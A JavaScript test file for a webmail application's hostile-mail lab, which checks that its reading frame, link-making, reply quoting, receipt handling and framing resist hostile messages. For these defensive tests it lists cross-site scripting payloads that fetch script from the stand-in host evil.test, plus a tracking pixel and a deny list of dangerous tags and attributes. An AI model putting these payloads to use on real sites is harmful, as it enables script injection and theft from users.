// The hostile-mail lab in the application itself: what the frame of the reading view is, receipts (W19), bombs (W15), links that lead
// out and pages that lead in (W16), text of which links are made (W4), and hostile messages that are answered.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { address, assert, compose, deliver, freshUser, html, Imap, signIn, test, world } from '../harness.mjs';
import { loaded, lookInside, openInApplication, readingFrame, show, told } from './host.mjs';
import { bombs, messages } from './messages.mjs';

const hostile = { timeout: 120_000, allowErrors: /./ };

/** How long a bomb may take from the click to the message on screen, in ms: a machine under the load of other tests is ten times slower. */
const BOMB_MS = 30_000;
/** How much more memory mshttpd may have held at its peak while bombs are open, in KiB. */
const BOMB_KIB = 256 * 1024;

test('the frame of the reading view is the one that the lab is about', async ({ page }) => {
  const { attributes, policy } = await readingFrame(page);
  assert.deepEqual(attributes.sandbox.split(' ').sort(), ['allow-popups', 'allow-popups-to-escape-sandbox', 'allow-same-origin']);
  assert.equal(attributes.referrerpolicy, 'no-referrer');
  for (const name of ['allow', 'srcdoc', 'allowfullscreen', 'csp']) assert.ok(!(name in attributes), name);
  const said = Object.fromEntries(policy.split(/; */).map((part) => [part.split(' ')[0], part.split(' ').slice(1).join(' ')]));
  assert.deepEqual(said, {
    sandbox: 'allow-same-origin allow-popups allow-popups-to-escape-sandbox',
    'default-src': "'none'",
    'img-src': "'self' data:",
    'style-src': "'unsafe-inline'",
    'form-action': "'none'",
    'base-uri': "'none'",
    'frame-ancestors': "'self'",
  });
});

/** Methods of JMAP that a page has called, in order. */
function callsOf(page) {
  const calls = [];
  page.on('request', (request) => {
    if (request.method() !== 'POST') return;
    const { methodCalls = [] } = request.postDataJSON() ?? {};
    calls.push(...methodCalls.map(([name, arguments_]) => ({ name, arguments: arguments_ })), ...(methodCalls.length ? [] : [{ name: request.url() }]));
  });
  return calls;
}

/** Entries of the queue committed so far (docs/formats/queue.md, `counts`), and those that are there now. */
function queued() {
  const counts = readFileSync(join(world.root, 'queue/counts'));
  return [counts.readBigUInt64LE(0), readdirSync(join(world.root, 'queue/control')).length];
}

const messagesOf = async (user) => {
  const imap = await Imap.open(user);
  const said = (await imap.command('STATUS INBOX (MESSAGES)')).join();
  imap.close();
  return Number(/MESSAGES (\d+)/.exec(said)[1]);
};

/** What sends: submissions, messages that are made, and whatever is posted elsewhere than to the API. */
const sends = (calls) => calls.filter(({ name, arguments: given }) => /^EmailSubmission\/set|^MDN\/|^http/.test(name) || (name === 'Email/set' && (given.create || given.destroy))).map(({ name }) => name);

test('a message that asks for a receipt is read, answered to nobody, and left; one that is sent is seen by the same means (W19)', hostile, async ({ page, tracker }) => {
  const [user, other] = [freshUser(), freshUser()];
  const wanted = { 'Disposition-Notification-To': address(other), 'Return-Receipt-To': address(other), 'X-Confirm-Reading-To': address(other), 'Disposition-Notification-Options': 'x=required,y' };
  await deliver(user, html('Please confirm', '<p>Read this.<img src="http://evil.test/1/receipt.png" width=1 height=1>', { From: address(other), ...wanted }));
  await signIn(page, user, '/robots.txt');
  const calls = callsOf(page);
  const before = queued();
  await openInApplication(page, 'Please confirm');
  await page.frameLocator('.message-frame').getByText('Read this.').waitFor();
  const imap = await Imap.open(user);
  await imap.command('SELECT INBOX');
  for (const until = Date.now() + 20_000; !(await imap.command('FETCH 1 (FLAGS)')).join().includes('\\Seen'); ) assert.ok(Date.now() < until, 'never marked as read');
  await page.keyboard.press('Escape'); // and left again
  await page.getByText('No message open').waitFor();
  await page.reload();
  await page.locator('.list-grid .row:not(.loading)').first().waitFor();
  assert.ok(calls.some(({ name }) => name === 'Email/get') && calls.some(({ name }) => name === 'Email/set'), 'the page was not listened to');
  assert.deepEqual(sends(calls), []);
  assert.deepEqual(queued(), before);
  assert.equal(await messagesOf(other), 0);
  assert.equal(tracker.connections, 0);
  // The control: an answer that the reader does send is seen in each of these places.
  await openInApplication(page, 'Please confirm');
  await page.keyboard.press('r');
  await page.getByRole('dialog').or(page.locator('.compose')).first().waitFor();
  await page.keyboard.type('Yes.');
  await page.keyboard.press('Control+Enter');
  for (const until = Date.now() + 40_000; (await messagesOf(other)) === 0; ) {
    assert.ok(Date.now() < until, 'the control was not sent');
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  assert.ok(sends(calls).includes('EmailSubmission/set'), `${calls.map(({ name }) => name)}`);
  assert.ok(queued()[0] > before[0]);
  imap.close();
});

/** The most memory that mshttpd has held since it was asked to forget, in KiB. */
const peak = () => Number(/VmHWM:\s*(\d+)/.exec(readFileSync(`/proc/${world.web}/status`, 'utf8'))[1]);
const resident = () => Number(/VmRSS:\s*(\d+)/.exec(readFileSync(`/proc/${world.web}/status`, 'utf8'))[1]);

test('bombs open in the application, in time and in memory (W15)', { ...hostile, timeout: 280_000 }, async ({ page, tracker }) => {
  const user = freshUser();
  await deliver(user, ...bombs.map(([name, body]) => html(`Bomb of ${name}`, Buffer.from(body).toString('base64').replace(/.{76}/g, '$&\r\n'), { 'Content-Transfer-Encoding': 'base64' })));
  await signIn(page, user, '/');
  const before = resident();
  const took = [];
  for (const [name] of bombs) {
    await page.locator('.list-grid .row:not(.loading):not([hidden])', { hasText: `Bomb of ${name}` }).waitFor();
    const begun = performance.now();
    await page.locator('.list-grid .row:not(.loading):not([hidden])', { hasText: `Bomb of ${name}` }).click({ timeout: BOMB_MS });
    await page.getByRole('heading', { name: `Bomb of ${name}` }).waitFor({ timeout: BOMB_MS });
    await loaded(page, BOMB_MS);
    took.push(`${name} ${Math.round(performance.now() - begun)} ms`);
    assert.ok(performance.now() - begun < BOMB_MS, took.at(-1));
    await page.keyboard.press('Escape'); // the application is still at work
    await page.getByText('No message open').waitFor({ timeout: BOMB_MS });
  }
  const most = peak() - before;
  console.log(`# bombs: ${took.join(', ')}; mshttpd ${Math.round(most / 1024)} MiB above ${Math.round(before / 1024)} MiB at its peak`);
  assert.ok(most < BOMB_KIB, `mshttpd took ${most} KiB more`);
  assert.equal(tracker.connections, 0);
});

/** Plain text of which links are made, and what a careless maker of links would make of it: each tells the tracker by its number. */
const texts = (n) => {
  const [to, ran] = [`http://evil.test/${n}`, `fetch('http://evil.test/${n}/ran.js')`];
  return [
    `http://x.test/"onmouseover="${ran}"x="`,
    `http://x.test/'onmouseover='${ran}'`,
    `<http://x.test/"><img src=x: onerror="${ran}">>`,
    `[1] http://x.test/ "><script>${ran}</script>`,
    `[x](javascript:${ran}) javascript:${ran} data:text/html,<script>${ran}</script> vbscript:x`,
    `mailto:a@b.test"><img src=${to}/m.png> a"onclick="${ran}"@b.test <a"@b.test>`,
    `> <img src="${to}/quoted.png">\n>> <svg onload="${ran}">\n-- \n<style>@import "${to}/s.css";</style>`,
    `&lt;img src=${to}/e.png&gt; &#60;script&#62;${ran} \u2028<iframe src=${to}/f.html>`,
    `www.x.test/<img/src=${to}/w.png> http://[x"onclick=${ran}]/ http://x.test\\"><img src=${to}/b.png>`,
  ];
};

test('of plain text links are made, and nothing else (W4)', hostile, async ({ page, tracker }) => {
  const user = freshUser();
  const all = texts(7);
  await deliver(user, ...all.map((text, at) => compose({ From: 'a@example.org', Subject: `Text ${at}.`, 'Content-Type': 'text/plain; charset=utf-8' }, text)));
  await signIn(page, user, '/robots.txt');
  for (const [at, text] of all.entries()) {
    await openInApplication(page, `Text ${at}.`);
    const frame = page.frames().find((one) => one.url().includes('/message/'));
    // The reading view colours what it shows; of the message's own there may be these and no more.
    const tags = await frame.evaluate(() => [...new Set([...document.body.querySelectorAll('*')].map((one) => one.localName))].sort());
    assert.deepEqual(tags.filter((tag) => !['a', 'blockquote', 'br', 'div', 'p', 'span'].includes(tag)), [], text);
    assert.deepEqual(await lookInside(frame), [], text);
    const words = await frame.evaluate(() => document.body.innerText);
    for (const word of ['onmouseover', 'onerror', 'script', 'onclick', '<img', '<svg'].filter((one) => text.includes(one))) assert.ok(words.includes(word), `${word} of ${text} is not shown as it is`);
    for (const link of await frame.locator('a').all()) await link.hover({ force: true });
  }
  assert.equal(tracker.connections, 0, tracker.requests.join());
});

test('a text that became markup would be seen (W4)', { ...hostile, allowConnections: true }, async ({ page, tracker }) => {
  await signIn(page, freshUser(), '/robots.txt');
  const careless = (text) => text.replace(/(^|\s)((?:https?|mailto|javascript|data):\S*)/g, '$1<a href="$2">link</a>');
  for (const text of texts(8)) {
    await show(page, [{ body: `<!doctype html><body>${careless(text)}`, fields: { 'Content-Type': 'text/html; charset=utf-8' } }], { bare: true });
    assert.notDeepEqual(await lookInside(page.frames()[1]), [], text);
  }
  assert.ok(told(tracker).has('8'), 'none of them does harm');
});

test('what hostile messages say is quoted in an answer, and does nothing there (W4)', { ...hostile, timeout: 200_000 }, async ({ page, tracker }) => {
  const user = freshUser();
  // Two of each class, and all that hold words: enough to find what the answer lets through that the frame does not.
  const some = ['W1', 'W2', 'W3', 'W4', 'W5', 'W6'].flatMap((kind) => messages.filter((one) => one.kind === kind).slice(0, 2));
  await deliver(user, ...some.map((one) => html(`Quote ${one.number}.`, `<p>words</p>${one.html}`)));
  await signIn(page, user, '/robots.txt');
  for (const one of some) {
    await openInApplication(page, `Quote ${one.number}.`);
    await page.keyboard.press('r');
    const editor = page.locator('.compose [contenteditable=true]').last();
    await editor.getByText('words').first().waitFor();
    const wrong = await editor.evaluate((element) => {
      const bad = 'script,style,svg,math,iframe,object,embed,form,input,base,link,meta,video,audio,template,textarea,select,noscript';
      const nodes = [...element.querySelectorAll('*')];
      return [
        ...[...element.querySelectorAll(bad)].map((node) => node.localName),
        ...nodes.flatMap((node) => [...node.attributes].map(({ name }) => name)).filter((name) => /^on|^srcset$|^background$|^ping$|^srcdoc$/.test(name)),
        ...nodes.map((node) => node.getAttribute('href')).filter((to) => to && !/^(https?|mailto):/.test(to)),
        ...nodes.filter((node) => node.getAttribute('src')).map((node) => node.getAttribute('src')),
        ...nodes.map((node) => getComputedStyle(node).position).filter((position) => position === 'fixed' || position === 'absolute'),
      ];
    });
    assert.deepEqual(wrong, [], `${one.number} ${one.kind} ${one.name}`);
    assert.equal(tracker.connections, 0, `${one.number} ${one.name}: ${tracker.requests}`);
    await page.evaluate(() => sessionStorage.clear());
  }
});

test('a link that is followed tells its host neither where it stood nor whose page it was, and gets no hold of it (W16, W19)', { ...hostile, allowConnections: true }, async ({ page, context, tracker }) => {
  const user = freshUser();
  await deliver(user, html('Follow', '<p><a href="http://evil.test/1/followed.html">follow</a>'));
  await signIn(page, user, '/robots.txt');
  const follow = async (link) => {
    tracker.reset();
    const [opened] = await Promise.all([context.waitForEvent('page'), link.click()]);
    await tracker.reached();
    await opened.waitForLoadState();
    const held = await opened.evaluate(() => [window.opener !== null, document.referrer]);
    await opened.close();
    return { held, heads: tracker.heads.filter((head) => head.startsWith('GET /1/followed')).join('\n') };
  };
  await openInApplication(page, 'Follow');
  const { held, heads } = await follow(page.frameLocator('.message-frame').getByText('follow'));
  assert.deepEqual(held, [false, '']);
  assert.match(heads, /^GET \/1\/followed.html/);
  assert.doesNotMatch(heads, /^(referer|cookie|origin):/im);
  // The control: the same link in a page that guards nothing.
  await page.route(`${world.url}/lab/open`, (route) => route.fulfill({ headers: { 'Content-Type': 'text/html', 'Referrer-Policy': 'unsafe-url' }, body: '<a target=_blank rel=opener href="http://evil.test/1/followed.html">follow</a>' }));
  await page.goto(`${world.url}/lab/open`);
  const control = await follow(page.getByText('follow'));
  assert.deepEqual(control.held, [true, `${world.url}/lab/open`]);
  assert.match(control.heads, /^referer: http.*lab\/open/im);
});

test('no other site has the application or a message in a frame, or holds its window (W16)', { ...hostile, allowConnections: true }, async ({ page }) => {
  const user = freshUser();
  const [id] = await deliver(user, html('Framed', '<p>x'));
  await signIn(page, user, '/robots.txt');
  await page.context().route(`${world.url}/lab/open`, (route) => route.fulfill({ headers: { 'Content-Type': 'text/html' }, body: '<p>open to all' }));
  const places = ['/lab/open', '/', `/message/${user}/${id}`, '/auth/session'];
  await page.route('http://evil.test/site', (route) => route.fulfill({ headers: { 'Content-Type': 'text/html' }, body: places.map((place) => `<iframe src="${world.url}${place}"></iframe>`).join('') }));
  await page.goto('http://evil.test/site');
  await page.waitForLoadState('load');
  const shown = page.frames().slice(1).map((frame) => frame.url().startsWith(world.url));
  assert.deepEqual(shown, [true, false, false, false], 'the first, which guards nothing, shows that a frame is possible');
  // A window that the other site opens is cut off from it.
  const hold = async (place) => {
    const [opened] = await Promise.all([page.context().waitForEvent('page'), page.evaluate((url) => void (window.held = window.open(url)), `${world.url}${place}`)]);
    await opened.waitForLoadState();
    const closed = await page.evaluate(() => window.held.closed); // cut off by Cross-Origin-Opener-Policy
    await opened.close();
    return !closed;
  };
  assert.deepEqual([await hold('/lab/open'), await hold('/')], [true, false]);
});
